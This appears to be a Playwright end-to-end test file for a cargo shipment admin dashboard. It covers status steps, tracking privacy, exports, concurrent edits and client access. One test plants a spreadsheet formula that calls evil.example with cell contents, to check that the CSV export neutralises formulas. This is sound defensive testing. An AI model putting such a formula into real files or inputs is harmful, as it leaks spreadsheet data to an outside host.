import { watch } from './support/actions';
import { axe } from './support/axe';
import { filled, adminTable } from './support/office';
import {
  bookCargo,
  callerOf,
  freeDays,
  moveShipment,
  newCustomer,
  nextPickupDay,
  type Shipment,
  stepMail,
} from './support/orders';
import { fitsPhone } from './support/phone';
import { demoAccount } from './support/platform';
import { anotherBrowser } from './support/sessions';
import { expect, test } from './support/test';
import { type Language, textsOf } from './support/texts';

const REQUESTED = 'SHIPMENT_STATUS_QUOTE_REQUESTED';
const CONFIRMED = 'SHIPMENT_STATUS_CONFIRMED';
const PICKED_UP = 'SHIPMENT_STATUS_PICKED_UP';
const IN_TRANSIT = 'SHIPMENT_STATUS_IN_TRANSIT';
const OUT_FOR_DELIVERY = 'SHIPMENT_STATUS_OUT_FOR_DELIVERY';
const DELIVERED = 'SHIPMENT_STATUS_DELIVERED';
const FAILED = 'SHIPMENT_STATUS_FAILED';
const CANCELLED = 'SHIPMENT_STATUS_CANCELLED';

const PROOF = 'M. Haile, signed at the door';

interface Step {
  from: string;
  offered: string[];
  to: string;
  /** The city to choose where none is suggested. */
  chosen?: string;
  /** The expected city when saving; omitted for steps without a place. */
  city?: string;
  note?: string;
  mail: string;
}

/** Steps of a successful shipment from Calgary to Edmonton. */
const way: Step[] = [
  { from: REQUESTED, offered: [CONFIRMED, CANCELLED], to: CONFIRMED, mail: 'cargo-confirmed' },
  { from: CONFIRMED, offered: [PICKED_UP, CANCELLED], to: PICKED_UP, city: 'Calgary', mail: 'cargo-picked-up' },
  {
    from: PICKED_UP,
    offered: [IN_TRANSIT, PICKED_UP, FAILED],
    to: IN_TRANSIT,
    chosen: 'Red Deer',
    city: 'Red Deer',
    note: 'Halfway, the road is icy',
    mail: 'cargo-in-transit',
  },
  {
    from: IN_TRANSIT,
    offered: [OUT_FOR_DELIVERY, IN_TRANSIT, FAILED],
    to: OUT_FOR_DELIVERY,
    city: 'Edmonton',
    mail: 'cargo-out-for-delivery',
  },
  {
    from: OUT_FOR_DELIVERY,
    offered: [DELIVERED, IN_TRANSIT, OUT_FOR_DELIVERY, FAILED],
    to: DELIVERED,
    city: 'Edmonton',
    note: PROOF,
    mail: 'cargo-delivered',
  },
];

const firstOf = (days: string[]) => {
  const [day] = days;
  if (!day) throw new Error('There is no working day');
  return day;
};

// The admin and the customer use different languages.
for (const [language, spoken] of [
  ['en', 'ar'],
  ['ar', 'ti'],
] as const satisfies [Language, Language][]) {
  test.describe(() => {
    test.use({ as: 'admin', language });

    test(`moves a shipment from request to delivery, in ${language}, for a customer who reads ${spoken}`, async ({
      page,
    }) => {
      const customer = await newCustomer(page.request, spoken);
      const shipment = await bookCargo(customer, {
        language: spoken,
        pickupDate: await nextPickupDay(customer),
      });
      await stepMail(customer, spoken, 'cargo-quote-requested', shipment.trackingNumber);

      const troubles = watch(page);
      const desk = adminTable(page, language, 'shipments');
      const { t, article, history } = desk;
      const cityName = (city: string) => t(`tracking:city.${city.replace(' ', '')}`);
      const row = desk.list.getByRole('row').filter({ hasText: shipment.trackingNumber });
      await page.goto('/admin?tab=shipments');

      await test.step('find it by its number', async () => {
        await desk.search(shipment.trackingNumber);
        await expect(desk.links).toHaveText([shipment.trackingNumber]);
        await expect(row.getByText(customer.email)).toBeVisible();
        await expect(row.locator('[data-variant]')).toHaveText(t(`admin:shipmentStatus.${REQUESTED}`));
        await axe(page, 'the list of shipments');
        await fitsPhone(page, 'the list of shipments');
      });

      await test.step('open it and read its details', async () => {
        await desk.links.click();
        await expect(article.getByRole('heading', { name: shipment.trackingNumber })).toBeFocused();
        await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
        for (const text of ['A sofa and two chairs', '120 8 Avenue SW', 'Abeba Tesfay', '10 Jasper Avenue']) {
          await expect(article.getByText(text)).toBeVisible();
        }
        await expect(article.getByRole('link', { name: '+1 780 555 0100' })).toHaveAttribute(
          'href',
          'tel:+17805550100',
        );
        await expect(history).toHaveCount(6);
        await axe(page, 'an open shipment');
        await fitsPhone(page, 'an open shipment');
      });

      for (const [index, { from, offered, to, chosen, city, note, mail }] of way.entries()) {
        await test.step(`move it on to ${to}`, async () => {
          await desk.stands(from);
          expect(await desk.offered()).toEqual(offered);
          await desk.choose(to);
          const place = article.getByLabel(t('admin:step.location'));
          const save = article.getByRole('button', { name: t('admin:step.save') });
          if (chosen) {
            await save.click();
            await expect(place).toBeFocused();
            await expect(place).toHaveAccessibleDescription(t('common:validation.required'));
            await place.selectOption(chosen);
          }
          if (city) await expect(place).toHaveValue(city);
          else await expect(place).toHaveCount(0);
          if (to === DELIVERED) {
            const proof = article.getByLabel(t('admin:shipment.proof'));
            await save.click();
            await expect(proof).toBeFocused();
            await axe(page, 'a delivery without its proof');
            await proof.fill(PROOF);
          } else if (note) {
            await desk.note(t('admin:step.note'), note);
          }
          await desk.save(to);
          await desk.stands(to);
          const step = history.nth(index + 1);
          await expect(step).toContainText(t(`admin:shipmentStatus.${to}`));
          if (city) await expect(step).toContainText(cityName(city));
          if (note) await expect(step).toContainText(note);
          await expect(row.locator('[data-variant]')).toHaveText(t(`admin:shipmentStatus.${to}`));
          await stepMail(customer, spoken, mail, shipment.trackingNumber);
        });
      }

      await test.step('office and customer see the proof of delivery, the public does not', async () => {
        await expect(article.getByText(t('admin:shipment.ended'))).toBeVisible();
        await page.reload();
        await desk.stands(DELIVERED);
        await expect(article.getByRole('definition').getByText(PROOF)).toBeVisible();
        await expect(article.getByRole('radio')).toHaveCount(0);
        await axe(page, 'a shipment that has arrived');
        const own = await customer.get<{ proofOfDelivery: string }>(`/v1/cargo/shipments/${shipment.id}`);
        expect(own.proofOfDelivery).toBe(PROOF);
        const tracking = await page.request.get(`/v1/cargo/tracking/${shipment.trackingNumber}`);
        const { history: seen } = (await tracking.json()) as { history: { status: string; location: string }[] };
        expect(seen.map(({ status, location }) => [status, location])).toEqual([
          [REQUESTED, ''],
          ...way.map(({ to, city }) => [to, city ?? '']),
        ]);
        expect(await tracking.text()).not.toMatch(/Haile|Abeba|Avenue|icy|(403|780) ?555/);
      });
      expect(troubles).toEqual([]);
    });
  });
}

test.describe('the shipments list', () => {
  test.use({ as: 'admin' });

  test('records a new location on the road, and a failed delivery ends the shipment', async ({ page }) => {
    const customer = await newCustomer(page.request);
    const shipment = await bookCargo(customer, { language: 'en', pickupDate: await nextPickupDay(customer) });
    const { id, trackingNumber } = shipment;
    await moveShipment(await callerOf(page.request, demoAccount('admin')), shipment, [[CONFIRMED], [PICKED_UP]]);

    const desk = adminTable(page, 'en', 'shipments');
    const { t, article, history } = desk;
    await page.goto(`/admin?tab=shipments&open=${id}`);
    await desk.stands(PICKED_UP);
    await desk.choose(PICKED_UP);
    // The pickup city is not offered as a new location.
    await expect(article.getByLabel(t('admin:step.location')).locator('option[value=Calgary]')).toHaveCount(0);
    await article.getByLabel(t('admin:step.location')).selectOption('Airdrie');
    await desk.save(PICKED_UP);
    await expect(history.nth(3)).toContainText('Airdrie');
    expect(await desk.offered()).toEqual([IN_TRANSIT, PICKED_UP, FAILED]);
    await desk.choose(FAILED);
    await expect(article.getByLabel(t('admin:step.location'))).toHaveValue('Airdrie');
    await desk.note(t('admin:step.note'), 'No answer at the door');
    await desk.save(FAILED);
    await desk.stands(FAILED);
    await expect(article.getByText(t('admin:shipment.ended'))).toBeFocused();
    await stepMail(customer, 'en', 'cargo-failed', trackingNumber);
  });

  test('records a failed delivery attempt, and customer and public see the day of the next one', async ({ page }) => {
    const customer = await newCustomer(page.request, 'ar');
    const pickupDate = await nextPickupDay(customer);
    const shipment = await bookCargo(customer, { language: 'ar', pickupDate });
    const { id, trackingNumber } = shipment;
    await moveShipment(await callerOf(page.request, demoAccount('admin')), shipment, [
      [CONFIRMED],
      [PICKED_UP, 'Calgary'],
      [IN_TRANSIT, 'Red Deer'],
      [OUT_FOR_DELIVERY, 'Edmonton'],
    ]);

    const desk = adminTable(page, 'en', 'shipments');
    const { t, article, history } = desk;
    await page.goto(`/admin?tab=shipments&open=${id}`);
    await desk.stands(OUT_FOR_DELIVERY);
    await desk.choose(IN_TRANSIT);
    await desk.note(t('admin:shipment.attemptReason'), 'No answer at the door');
    await article.getByLabel(t('admin:shipment.nextAttempt')).fill(pickupDate);
    await axe(page, 'a failed delivery attempt');
    await fitsPhone(page, 'a failed delivery attempt');
    await desk.save(IN_TRANSIT);
    await desk.stands(IN_TRANSIT);
    await expect(history.nth(5)).toContainText(t('admin:shipment.attempt'));
    await stepMail(customer, 'ar', 'cargo-delivery-attempted', trackingNumber);

    await page.goto(`/track/${trackingNumber}`);
    const [before = ''] = t('tracking:attempted').split('{{date}}');
    await expect(page.getByText(before)).toBeVisible();
    const tracking = await page.request.get(`/v1/cargo/tracking/${trackingNumber}`);
    expect(await tracking.text()).toContain(`"nextAttemptDate":"${pickupDate}"`);
    expect(await tracking.text()).not.toContain('No answer');
  });

  test('does not offer a pickup before its time, and the service rejects it', async ({ page }) => {
    const customer = await newCustomer(page.request);
    const { id, etag } = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
    const admin = await callerOf(page.request, demoAccount('admin'));
    const confirmed = await admin.patch<Shipment>(`/v1/cargo/shipments/${id}`, { status: CONFIRMED, etag });
    const early = { status: PICKED_UP, etag: confirmed.etag };
    expect(await admin.statusOf('PATCH', `/v1/cargo/shipments/${id}`, early)).toBe(400);
    const desk = adminTable(page, 'en', 'shipments');
    await page.goto(`/admin?tab=shipments&open=${id}`);
    await desk.stands(CONFIRMED);
    await expect(desk.article.locator(`input[type=radio][value=${PICKED_UP}]`)).toBeDisabled();
    await axe(page, 'a shipment before its pickup day');
  });

  test('searches, filters, sorts, pages and exports a long list', async ({ page }) => {
    const customer = await newCustomer(page.request);
    const days = (await freeDays(customer)).slice(0, 11);
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
    const shipments: Shipment[] = [];
    for (let number = 0; number < 22; number++) {
      const pickupDate = days[number % days.length] ?? firstOf(days);
      const description = number === 0 ? formula : undefined;
      shipments.push(await bookCargo(customer, { language: 'en', pickupDate, description }));
    }
    const [single] = shipments;
    if (!single) throw new Error('There is no shipment');
    const newestFirst = shipments.map(({ id }) => id).reverse();
    const pickupOf = new Map(shipments.map(({ id, pickupDate }) => [id, pickupDate]));

    const desk = adminTable(page, 'en', 'shipments');
    const { t } = desk;
    await page.goto('/admin?tab=shipments');
    await desk.search(customer.email);

    await test.step('two pages, newest first, and Back leads to the first', async () => {
      await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
      await page.getByRole('button', { name: t('common:pager.next') }).click();
      await expect.poll(desk.ids).toEqual(newestFirst.slice(20));
      await expect(page.getByText(filled(t('common:pager.page'), { page: 2 }))).toBeVisible();
      await expect(page.getByRole('button', { name: t('common:pager.next') })).toBeDisabled();
      await page.goBack();
      await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
    });

    await test.step('sort by the earliest pickup, across both pages', async () => {
      const order = page.getByLabel(t('admin:desk.order'), { exact: true });
      await order.selectOption('SHIPMENT_ORDER_PICKUP_SOONEST');
      const soonest = [...pickupOf.values()].sort();
      const pickups = async () => (await desk.ids()).map((id) => pickupOf.get(id));
      await expect.poll(pickups).toEqual(soonest.slice(0, 20));
      await page.getByRole('button', { name: t('common:pager.next') }).click();
      await expect.poll(pickups).toEqual(soonest.slice(20));
      // A new sort order starts at the first page.
      await order.selectOption('SHIPMENT_ORDER_OLDEST');
      await expect.poll(desk.ids).toEqual(newestFirst.toReversed().slice(0, 20));
    });

    await test.step('one day of pickups', async () => {
      await page.getByLabel(t('admin:shipment.from')).fill(single.pickupDate);
      await page.getByLabel(t('admin:shipment.to')).fill(single.pickupDate);
      const thatDay = shipments.filter(({ pickupDate }) => pickupDate === single.pickupDate).map(({ id }) => id);
      await expect.poll(desk.ids).toEqual(thatDay);
      await page.reload();
      await expect.poll(desk.ids).toEqual(thatDay);
      await page.getByRole('button', { name: t('admin:desk.clear') }).click();
      await expect(page.getByRole('searchbox')).toHaveValue('');
      await desk.search(customer.email);
    });

    await test.step('filter by status; the export follows, without formulas', async () => {
      const admin = await callerOf(page.request, demoAccount('admin'));
      await admin.patch(`/v1/cargo/shipments/${single.id}`, { status: CONFIRMED, etag: single.etag });
      const status = page.getByLabel(t('admin:desk.status'));
      await status.selectOption(CONFIRMED);
      await expect.poll(desk.ids).toEqual([single.id]);
      const confirmed = await desk.exported();
      expect(confirmed.name).toMatch(/^cargo-shipments-\d{4}-\d\d-\d\d\.csv$/);
      expect(confirmed.column('tracking_number')).toEqual([single.trackingNumber]);
      expect(confirmed.column('status')).toEqual(['confirmed']);
      expect(confirmed.column('cargo_description')).toEqual([`'${formula}`]);
      expect(confirmed.column('delivery_contact_phone')).toEqual(["'+1 780 555 0100"]);

      // The export holds the whole list in its order, including the second page.
      await status.selectOption('SHIPMENT_STATUS_UNSPECIFIED');
      await expect(desk.links).toHaveCount(20);
      const all = await desk.exported();
      expect(all.column('tracking_number')).toEqual(shipments.map(({ trackingNumber }) => trackingNumber));
      expect(new Set(all.column('user_email'))).toEqual(new Set([customer.email]));
    });

    await test.step('a search without results shows a message and can be cleared', async () => {
      await desk.search(`unknown.${customer.email}`);
      await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
      await axe(page, 'a list in which nothing fits');
      await page
        .getByRole('button', { name: t('admin:desk.clear') })
        .first()
        .click();
      await expect(desk.links.first()).toBeVisible();
    });
  });

  test('shows the fresh shipment after a concurrent change and keeps the input', async ({ page, browser }) => {
    const customer = await newCustomer(page.request);
    const shipment = await bookCargo(customer, { language: 'en', pickupDate: await nextPickupDay(customer) });
    const at = `/admin?tab=shipments&open=${shipment.id}`;
    const desk = adminTable(page, 'en', 'shipments');
    const { t, article } = desk;
    await page.goto(at);
    await desk.stands(REQUESTED);
    await desk.note(t('admin:step.note'), 'Van 3 comes');

    const second = await anotherBrowser(browser, 'admin');
    const other = adminTable(second.page, 'en', 'shipments');
    await test.step('a second window confirms it in the meantime', async () => {
      await other.page.goto(at);
      await other.stands(REQUESTED);
      await other.choose(CONFIRMED);
      await other.save(CONFIRMED);
    });
    await second.done();

    await test.step('the first window is notified and shows the current status', async () => {
      await desk.choose(CANCELLED);
      await article.getByRole('button', { name: t('admin:step.save') }).click();
      await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
      const status = t(`admin:shipmentStatus.${CONFIRMED}`);
      await expect(article.getByText(filled(t('admin:step.overtakenText'), { status }))).toBeVisible();
      await desk.stands(CONFIRMED);
      expect(await desk.offered()).toEqual([PICKED_UP, CANCELLED]);
      await expect(article.getByLabel(t('admin:step.note'))).toHaveValue('Van 3 comes');
      await axe(page, 'a shipment changed by another admin');
      await fitsPhone(page, 'a shipment changed by another admin');
    });

    await test.step('the next step is saved on the fresh shipment', async () => {
      await desk.choose(PICKED_UP);
      await desk.save(PICKED_UP);
      await expect(desk.history.nth(2)).toContainText('Van 3 comes');
      const { history } = await customer.get<{ history: unknown[] }>(`/v1/cargo/shipments/${shipment.id}`);
      expect(history).toHaveLength(3);
    });
  });
});

test.describe('a client', () => {
  test.use({ as: 'client' });

  test('cannot open the dashboard', async ({ page }) => {
    const customer = await newCustomer(page.request);
    const shipment = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
    const at = `/v1/cargo/shipments/${shipment.id}`;
    const client = await callerOf(page.request, demoAccount('client'));
    expect(await client.statusOf('GET', at)).toBe(404);
    expect(await client.statusOf('PATCH', at, { status: CONFIRMED, etag: shipment.etag })).toBe(403);
    expect(await client.statusOf('GET', '/v1/cargo/shipments:export')).toBe(403);
    const found = await client.get<{ shipments: Shipment[] }>('/v1/cargo/shipments?pageSize=100');
    expect(found.shipments.map(({ id }) => id)).not.toContain(shipment.id);

    const calls: string[] = [];
    page.on('request', (request) => calls.push(new URL(request.url()).pathname));
    await page.goto(`/admin?tab=shipments&open=${shipment.id}`);
    await expect(page.getByRole('heading', { name: textsOf('en')('admin:denied.title') })).toBeVisible();
    await expect(page.getByRole('navigation', { name: textsOf('en')('admin:tabs') })).toHaveCount(0);
    await expect(page.getByText(shipment.trackingNumber)).toHaveCount(0);
    expect(calls.filter((path) => path.startsWith('/v1/cargo'))).toEqual([]);
  });
});
